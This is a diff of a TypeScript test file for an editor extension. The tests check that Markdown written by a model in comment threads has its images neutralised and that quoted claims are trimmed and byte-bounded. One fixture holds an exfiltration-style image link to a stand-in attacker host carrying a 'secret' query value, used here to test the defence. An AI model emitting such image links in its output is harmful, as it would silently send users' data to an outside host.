@@ -3,7 +3,7 @@ import { capturePatchset } from '../../../host/capture/capture';
 import { openRepo } from '../../../host/capture/repo';
 import { mintAskEvent, parseAskCommand } from '../../../host/asks/commands';
 import { EMPTY_ASK_PROJECTION, stepAsks } from '../../../host/asks/fold';
-import { flaggedBoardId, type AskCommand, type AskProjection } from '../../../protocol/asks';
+import { ASK_QUOTE_MAX_BYTES, boundedQuote, flaggedBoardId, utf8Length, type AskCommand, type AskProjection } from '../../../protocol/asks';
 import type { Patchset } from '../../../protocol/patchset';
 import { GenerationSnapshot } from '../../../protocol/review';
 import {
@@ -26,6 +26,7 @@ import {
   planLineStage,
   resolveDocument,
   uncoveredSpans,
+  withoutImages,
   type ShownDocument,
 } from '../../../extension/commentsPlan';
 import type { TextDocumentRef } from '../../../extension/documentRefs';
@@ -405,5 +406,22 @@ describe('comments plan', () => {
       assert.ok(markdown.includes('The old value is **lost**.'), 'the body stays Markdown');
       assert.equal(escapeMarkdownText('a\nb *c*'), 'a b \\*c\\*');
     });
+  });
+});
+
+describe('extension/commentsPlan: model-written Markdown in threads', () => {
+  it('makes every image inert (no fetch when a thread opens) and keeps links and text', () => {
+    const body = 'See ![x](https://attacker.example/p.png?d=secret) and ![ref][r] and [the docs](https://example.com).';
+    const out = withoutImages(body);
+    assert.doesNotMatch(out, /(^|[^\\])!\[/, 'no unescaped image opener is left');
+    assert.match(out, /\[the docs\]\(https:\/\/example\.com\)/, 'links stay links');
+    assert.equal(out.replace(/\\!\[/g, '!['), body, 'only the image openers changed');
+  });
+
+  it('quotes a finding claim as the panel does: trimmed and bounded, so both name one thread', () => {
+    assert.equal(boundedQuote('  Callers match the old text \n'), 'Callers match the old text');
+    const long = 'é'.repeat(ASK_QUOTE_MAX_BYTES);
+    const cut = boundedQuote(long);
+    assert.ok(utf8Length(cut) <= ASK_QUOTE_MAX_BYTES && cut.length === ASK_QUOTE_MAX_BYTES / 2, `${utf8Length(cut)} bytes`);
   });
 });
